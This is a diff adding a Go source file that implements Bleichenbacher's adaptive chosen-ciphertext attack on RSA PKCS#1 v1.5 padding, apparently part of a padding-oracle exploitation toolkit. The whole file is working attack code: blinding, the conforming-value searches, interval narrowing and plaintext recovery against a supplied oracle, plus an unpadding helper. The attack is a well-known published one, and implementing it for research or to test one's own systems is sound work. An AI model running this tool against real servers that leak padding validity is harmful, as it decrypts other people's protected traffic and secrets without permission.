@@ -0,0 +1,171 @@
+package rsaoracle
+
+import (
+	"context"
+	"crypto/rsa"
+	"errors"
+	"fmt"
+	"math/big"
+	"sync/atomic"
+)
+
+// Bleichenbacher - adaptive chosen ciphertext attack against RSA with PKCS#1 v1.5 encryption padding
+// (Bleichenbacher'98, known as ROBOT when found in TLS). Oracle tells whether ciphertext decrypts into 00 02 ...
+type Bleichenbacher struct {
+	PublicKey *rsa.PublicKey
+	Oracle    Oracle
+
+	// number of candidates probed at once (1 if not set)
+	Concurrency int
+
+	// if not nil, internal events are logged, same as exploit.Padre.Log
+	Log func(level int, msg string, fields ...interface{})
+
+	// if not nil, called after every step with number of oracle queries made so far,
+	// and bit length of the range where plaintext is known to be
+	Progress func(queries int, bits int)
+
+	queries int64
+}
+
+// ErrInconsistentOracle is returned when answers of oracle contradict each other
+var ErrInconsistentOracle = errors.New("oracle is inconsistent: no range of plaintext is left")
+
+// range of possible plaintexts, both ends included
+type interval struct {
+	a, b *big.Int
+}
+
+// Queries returns the number of oracle queries made so far
+func (p *Bleichenbacher) Queries() int {
+	return int(atomic.LoadInt64(&p.queries))
+}
+
+// Decrypt recovers padded plaintext of ciphertext (k bytes long, where k is the length of modulus), see UnpadPKCS1v15
+func (p *Bleichenbacher) Decrypt(ctx context.Context, ciphertext []byte) ([]byte, error) {
+	q := newQuerier(p.PublicKey, p.Oracle, p.Concurrency, &p.queries, p.Log)
+	n, k := q.n, q.k
+	if k < 11 {
+		return nil, fmt.Errorf("RSA modulus is too short: %d bits", n.BitLen())
+	}
+
+	c := new(big.Int).SetBytes(ciphertext)
+	if len(ciphertext) != k || c.Cmp(n) >= 0 {
+		return nil, fmt.Errorf("ciphertext must be %d bytes long and less than modulus", k)
+	}
+
+	// conforming plaintexts lie in [2B, 3B-1]
+	B := new(big.Int).Lsh(bigOne, uint(8*(k-2)))
+	B2 := new(big.Int).Mul(B, big.NewInt(2))
+	B3 := new(big.Int).Mul(B, big.NewInt(3))
+	B3m1 := new(big.Int).Sub(B3, bigOne)
+
+	// step 1: blinding
+	s0, err := q.blind(ctx, c)
+	if err != nil {
+		return nil, err
+	}
+	c0 := new(big.Int).Mod(new(big.Int).Mul(c, new(big.Int).Exp(s0, q.e, n)), n)
+
+	M := []interval{{new(big.Int).Set(B2), new(big.Int).Set(B3m1)}}
+	var s *big.Int
+
+	for i := 1; ; i++ {
+		switch {
+		case i == 1:
+			// step 2a: the smallest s >= n/3B, that gives conforming plaintext
+			s, err = q.search(ctx, c0, ceilDiv(n, B3), bigOne, nil)
+		case len(M) > 1:
+			// step 2b: more than one range left, just the next conforming s
+			s, err = q.search(ctx, c0, new(big.Int).Add(s, bigOne), bigOne, nil)
+		default:
+			// step 2c: single range left, s is searched for among values that halve it
+			s, err = searchSingle(ctx, q, c0, M[0], s, B2, B3)
+		}
+		if err != nil {
+			return nil, err
+		}
+
+		// step 3: narrow ranges down with the found s
+		M = narrow(M, s, n, B2, B3m1)
+		if len(M) == 0 {
+			return nil, ErrInconsistentOracle
+		}
+
+		bits := new(big.Int).Sub(M[0].b, M[0].a).BitLen()
+		q.logf(logVerbose, "step done", "step", i, "ranges", len(M), "bits", bits, "queries", p.Queries())
+		if p.Progress != nil {
+			p.Progress(p.Queries(), bits)
+		}
+
+		// step 4: the only possible plaintext is left
+		if len(M) == 1 && M[0].a.Cmp(M[0].b) == 0 {
+			m := new(big.Int).Mod(new(big.Int).Mul(M[0].a, new(big.Int).ModInverse(s0, n)), n)
+			return toBytes(m, k), nil
+		}
+	}
+}
+
+// step 2c: for growing r, s is searched in [(2B + rn) / b, (3B + rn) / a]
+func searchSingle(ctx context.Context, q *querier, c0 *big.Int, m interval, s, B2, B3 *big.Int) (*big.Int, error) {
+	n := q.n
+	r := ceilDiv(new(big.Int).Mul(big.NewInt(2), new(big.Int).Sub(new(big.Int).Mul(m.b, s), B2)), n)
+	for ; ; r.Add(r, bigOne) {
+		rn := new(big.Int).Mul(r, n)
+		from := ceilDiv(new(big.Int).Add(B2, rn), m.b)
+		upto := new(big.Int).Div(new(big.Int).Add(B3, rn), m.a)
+
+		found, err := q.search(ctx, c0, from, bigOne, upto)
+		if err != nil || found != nil {
+			return found, err
+		}
+	}
+}
+
+// step 3: ranges that are consistent with conforming m*s, i.e. 2B <= m*s - rn <= 3B-1
+func narrow(M []interval, s, n, B2, B3m1 *big.Int) []interval {
+	var narrowed []interval
+	for _, m := range M {
+		rFrom := ceilDiv(new(big.Int).Sub(new(big.Int).Mul(m.a, s), B3m1), n)
+		rUpto := new(big.Int).Div(new(big.Int).Sub(new(big.Int).Mul(m.b, s), B2), n)
+
+		for r := rFrom; r.Cmp(rUpto) <= 0; r = new(big.Int).Add(r, bigOne) {
+			rn := new(big.Int).Mul(r, n)
+			a := maxInt(m.a, ceilDiv(new(big.Int).Add(B2, rn), s))
+			b := minInt(m.b, new(big.Int).Div(new(big.Int).Add(B3m1, rn), s))
+			if a.Cmp(b) <= 0 {
+				narrowed = union(narrowed, interval{a, b})
+			}
+		}
+	}
+	return narrowed
+}
+
+// adds interval to the list, merging overlapping ones
+func union(list []interval, i interval) []interval {
+	merged := make([]interval, 0, len(list)+1)
+	for _, j := range list {
+		if j.b.Cmp(i.a) < 0 || i.b.Cmp(j.a) < 0 {
+			merged = append(merged, j)
+			continue
+		}
+		i = interval{minInt(i.a, j.a), maxInt(i.b, j.b)}
+	}
+	return append(merged, i)
+}
+
+// UnpadPKCS1v15 extracts message from PKCS#1 v1.5 encryption block: 00 02 PS 00 M
+func UnpadPKCS1v15(em []byte) ([]byte, error) {
+	if len(em) < 11 || em[0] != 0 || em[1] != 2 {
+		return nil, fmt.Errorf("not a PKCS#1 v1.5 encryption block")
+	}
+	for i := 2; i < len(em); i++ {
+		if em[i] == 0 {
+			if i < 10 {
+				return nil, fmt.Errorf("padding string is too short: %d bytes", i-2)
+			}
+			return em[i+1:], nil
+		}
+	}
+	return nil, fmt.Errorf("no separator after padding string")
+}